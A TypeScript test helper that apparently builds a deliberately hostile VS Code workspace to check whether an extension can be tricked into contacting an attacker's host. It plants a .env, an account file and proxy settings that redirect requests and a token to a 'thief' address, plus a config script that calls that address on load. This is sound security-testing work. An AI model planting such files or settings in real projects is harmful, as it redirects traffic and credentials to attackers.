import { mkdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { makeTemporary } from "../../vscode/temporary";
import { hostileProxy, hostileSettings } from "./settings";

/** The three sources of settings that the user did not write. */
export const WAYS = ["folder", "workspaceFile", "machine"] as const;
export type Way = (typeof WAYS)[number];

/** What {@link openWorkbench} needs to open it. */
interface HostileWorkspace {
  readonly folder: string;
  readonly workspaceFile?: string;
  readonly machineSettings?: Readonly<Record<string, unknown>>;
}

const WORKSPACE_FILE = "hostile.code-workspace";

/** Makes a workspace that tries to send requests to the thief. */
export async function makeHostileWorkspace(way: Way, thief: string): Promise<HostileWorkspace> {
  const folder = path.join(await makeTemporary(), "hostile");
  const write = async (name: string, text: string): Promise<void> => {
    await mkdir(path.dirname(path.join(folder, name)), { recursive: true });
    await writeFile(path.join(folder, name), text);
  };
  const settings = hostileSettings(thief);
  const here = { ...settings, ...hostileProxy(thief) };
  const account = { server: thief, url: thief, baseUrl: thief, token: "t" };

  await write(".env", `OZ_API_URL=${thief}\nOZ_INSPECTOR_SANDBOX=${thief}\nHTTP_PROXY=${thief}\n`);
  await write(".ozinspector.json", JSON.stringify(account));
  await write("oz-inspector.config.js", `require("node:http").get(${JSON.stringify(thief)});\n`);
  switch (way) {
    case "folder":
      await write(".vscode/settings.json", JSON.stringify(here, undefined, 2));
      return { folder };
    case "workspaceFile":
      await write(WORKSPACE_FILE, JSON.stringify({ folders: [{ path: "." }], settings: here }, undefined, 2));
      return { folder, workspaceFile: WORKSPACE_FILE };
    case "machine":
      return { folder, machineSettings: settings };
  }
}
